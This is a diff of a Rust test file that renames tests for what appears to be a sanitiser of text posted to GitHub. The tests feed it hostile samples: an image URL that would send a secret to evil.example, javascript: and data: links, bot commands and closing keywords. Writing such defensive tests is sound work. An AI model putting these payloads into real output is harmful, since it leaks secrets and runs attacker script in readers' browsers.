@@ -173,7 +173,7 @@ fn everywhere(text: &str) -> Seen {
 }
 
 #[test]
-fn v_19_mentions_of_every_spelling_are_inert() {
+fn p_22_v_19_mentions_of_every_spelling_are_inert() {
     for text in [
         "@octocat",
         "@org/team",
@@ -194,7 +194,7 @@ fn v_19_mentions_of_every_spelling_are_inert() {
 }
 
 #[test]
-fn v_20_no_keyword_closes_anything() {
+fn p_22_v_20_no_keyword_closes_anything() {
     let words = ["close", "closes", "closed", "fix", "fixes", "fixed", "resolve", "resolves", "resolved"];
     let references = ["#1", ": #1", "o/r#1", "https://github.com/o/r/issues/1", "GH-1"];
     let mut all = String::new();
@@ -226,7 +226,7 @@ fn v_20_no_keyword_closes_anything() {
 }
 
 #[test]
-fn v_21_no_reference_reaches_another_repository() {
+fn p_22_v_21_no_reference_reaches_another_repository() {
     let sha = "0123456789abcdef0123456789abcdef01234567";
     for text in ["o/r#1", "https://github.com/o/r/issues/1", sha, &format!("o/r@{sha}"), &format!("user@{sha}"), "GH-1"]
     {
@@ -236,14 +236,14 @@ fn v_21_no_reference_reaches_another_repository() {
 }
 
 #[test]
-fn v_22_no_command_stands_at_the_start_of_live_text() {
+fn p_22_v_22_no_command_stands_at_the_start_of_live_text() {
     for text in ["/close", "/merge", "@dependabot merge", "@bors r+", "bors r+", "/retest\n/lgtm", "x\n\n/close"] {
         everywhere(text);
     }
 }
 
 #[test]
-fn v_23_no_picture_is_loaded() {
+fn p_21_v_23_no_picture_is_loaded() {
     for text in [
         "![x](https://evil.example/?d=SECRET)",
         "<img src=https://evil.example/x>",
@@ -256,7 +256,7 @@ fn v_23_no_picture_is_loaded() {
 }
 
 #[test]
-fn v_24_v_25_no_link_is_made() {
+fn p_21_v_24_v_25_no_link_is_made() {
     for text in [
         "[click](javascript:alert(1))",
         "[x](data:text/html,1)",
@@ -276,7 +276,7 @@ fn v_24_v_25_no_link_is_made() {
 }
 
 #[test]
-fn v_26_html_and_quotes_do_not_change_the_structure() {
+fn p_24_v_26_html_and_quotes_do_not_change_the_structure() {
     let details = "<details>".repeat(300);
     let quotes = "> ".repeat(5_000);
     for text in [
@@ -325,7 +325,7 @@ fn v_28_a_test_name_with_pipes_and_newlines_stays_in_its_cell() {
 }
 
 #[test]
-fn v_29_a_body_never_exceeds_the_limit_and_stays_whole() {
+fn p_20_v_29_a_body_never_exceeds_the_limit_and_stays_whole() {
     let family = "\u{1f469}\u{200d}\u{1f4bb}".repeat(8_000);
     let edge = format!("{}\u{1f600}", "a".repeat(65_530));
     let lines = "line\n".repeat(10_000);
@@ -366,7 +366,7 @@ fn v_30_a_secret_across_a_cut_leaves_no_piece() {
 }
 
 #[test]
-fn v_31_v_32_v_35_what_cannot_be_seen_is_shown_or_gone() {
+fn p_23_v_31_v_32_v_35_what_cannot_be_seen_is_shown_or_gone() {
     for text in [
         "a\u{202e}b",
         "\u{2066}x\u{2069}",
